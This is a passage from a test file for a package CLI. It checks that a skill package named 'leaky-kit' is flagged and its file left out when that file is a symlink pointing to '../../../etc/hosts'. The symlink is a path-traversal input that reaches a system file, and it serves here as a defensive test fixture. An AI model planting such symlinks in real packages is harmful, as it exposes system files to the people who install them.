      name: 'leaky-kit',
      extraFiles: { hosts: { linkTarget: '../../../etc/hosts' } },
    };
    await seedSkills(database, [leaky]);
    const warned = await cli(['info', '@acme/leaky-kit'], await project());
    expect(warned.stdout).toMatch(/Files:\s+1\n/);
    expect(warned.stdout).toMatch(/Warnings:\s+symlink hosts points outside the skill folder; left out\n/);
  });
});
